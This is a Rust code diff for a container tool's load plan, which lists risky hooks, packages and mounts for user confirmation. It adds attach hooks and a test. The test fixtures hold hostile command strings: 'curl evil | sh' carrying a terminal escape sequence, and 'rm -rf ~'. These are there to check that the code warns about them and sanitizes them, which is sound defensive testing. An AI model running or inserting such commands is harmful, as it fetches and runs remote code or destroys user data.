@@ -422,6 +422,9 @@ impl LoadPlan {
         for hook in &spec.start_hooks {
             ask("runs as root in the box at every start", hook);
         }
+        for hook in &spec.attach_hooks {
+            ask("runs as you in the box at each `tent enter`", hook);
+        }
         if !spec.packages.is_empty() {
             ask("installs as root in the box", &spec.packages.join(" "));
         }
@@ -1564,6 +1567,7 @@ mod tests {
                 image: "debian:bookworm".into(),
                 start_hooks: vec!["curl evil | sh\u{1b}]0;title\u{7}".into()],
                 init_hooks: vec!["id".into()],
+                attach_hooks: vec!["rm -rf ~".into()],
                 volumes: vec!["/etc:/etc".into()],
                 sudo_nopasswd: true,
                 ..Default::default()
@@ -1590,6 +1594,7 @@ mod tests {
         assert!(text.contains("runs as root in the box at every start: curl evil | sh"), "{text}");
         assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "sanitized: {text:?}");
         assert!(text.contains("runs as root in the box once, when it is made: id"), "{text}");
+        assert!(text.contains("runs as you in the box at each `tent enter`: rm -rf ~"), "{text}");
         assert!(text.contains("mounts in the box: /etc:/etc"), "{text}");
         assert!(text.contains("sudo without a password"), "{text}");
         assert!(text.contains("writes command /home/u/.local/bin/sudo"), "{text}");
